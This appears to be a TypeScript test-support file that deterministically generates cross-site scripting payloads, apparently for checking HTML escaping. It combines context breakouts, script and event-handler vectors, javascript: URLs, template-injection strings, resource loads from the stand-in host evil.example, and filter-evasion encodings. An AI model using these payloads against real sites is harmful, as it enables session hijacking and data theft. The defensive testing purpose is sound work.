/**
 * Markup that would run, load or change a page if anything of it reached a browser unescaped: made by a grammar of what
 * surrounds a text in a page (to break out of it), what runs or loads there, and how it may be written so that a filter
 * does not see it. `n` tells in a dialog or address which one it was. The same ones in the same order every time.
 */
export function payloads(count: number): string[] {
  const next = random(20_261_128);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
  const made = new Set<string>();
  for (let n = 1; made.size < count; n += 1) {
    const core = pick(cores)(`alert(${n})`, `//evil.example/${n}`);
    made.add(`${pick(breakouts)}${pick(disguises)(core, next)}${pick(tails)}`);
  }
  return [...made];
}

/** Ends of what a text may stand in: an attribute, an element that holds text only, a comment, a script, a style. */
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '" autofocus onfocus=x ',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</select>',
  '</option></select>',
  '</svg>',
  '</math>',
  '</template>',
  '</details></li></ul>',
  '\\u0022>',
  '&quot;>',
  '"/>',
  '<!--',
  '{{',
  '${',
  '\r\n\r\n',
];

type Core = (run: string, at: string) => string;

const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforeinput',
];

const running: readonly Core[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (_run, at) => `<script src=${at}.js></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<img src="data:image/svg+xml,<svg onload='${run}'>">`,
];

const loading: readonly Core[] = [
  (_run, at) => `<img src=${at}.png>`,
  (_run, at) => `<link rel=stylesheet href=${at}.css>`,
  (_run, at) => `<link rel=prefetch href=${at}>`,
  (_run, at) => `<style>@import "${at}.css";</style>`,
  (_run, at) => `<style>body{background:url(${at})}</style>`,
  (_run, at) => `<p style="background:url(${at})">x</p>`,
  (_run, at) => `<base href="https:${at}/">`,
  (_run, at) => `<meta http-equiv=refresh content="0;url=https:${at}">`,
  (_run, at) => `<iframe src=${at}></iframe>`,
  (_run, at) => `<video poster=${at} src=${at}></video>`,
  (_run, at) => `<form action=https:${at}><input name=x></form>`,
  (_run, at) => `<a href=https:${at} ping=${at}>x</a>`,
  (_run, at) => `<svg><use href="https:${at}#x"/><image href=${at} /></svg>`,
  (_run, at) => `<table background=${at}><tr><td>x</table>`,
];

/** A handler in an attribute, for texts that stand in one. */
const attributes: readonly Core[] = handlers.map((handler) => (run) => `${handler}=${run} x=`);
/** Links and text of other notations, which must stay text as well. */
const notations: readonly Core[] = [
  (run) => `javascript:${run}`,
  (run) => `[x](javascript:${run})`,
  (_run, at) => `![x](https:${at}.png)`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `<%= ${run} %>`,
  (run) => `\${${run}}`,
  (run) => `vbscript:${run}`,
];
const cores: readonly Core[] = [...running, ...running, ...loading, ...attributes, ...notations];

type Disguise = (core: string, next: () => number) => string;

const disguises: readonly Disguise[] = [
  (core) => core,
  (core) => core,
  (core) => core.toUpperCase().replaceAll('ALERT', 'alert'),
  (core, next) =>
    [...core]
      .map((letter) => (next() < 0.5 ? letter.toUpperCase() : letter))
      .join('')
      .replace(/alert/i, 'alert'),
  (core) => core.replace(/<(\w+) /, '<$1/'),
  (core) => core.replace(/<(\w+) /, '<$1\t\n'),
  (core) => core.replace('<', '<x><'),
  (core) => core.replaceAll('javascript:', 'java\tscript:'),
  (core) => core.replaceAll('javascript:', '&#106;avascript&colon;'),
  (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (core) => core.replaceAll('<', '\\u003c'),
  (core) => core.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (core) => core.replaceAll('<', '＜').replaceAll('>', '＞'),
  (core) => `${core}${core}`,
  (core) => core.replace(/>$/, ''),
  (core) => core.replaceAll(' ', '\f'),
  (core) => `<<${core.slice(1)}`,
  (core) => `\u202e${core}\u2066`,
];

const tails = ['', '', '<!--', '//', '"', "'", '<x', '</x>', '&', '\\', '<plaintext>', '<textarea>'];

/** Numbers from 0 to below 1, the same for the same seed: mulberry32. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
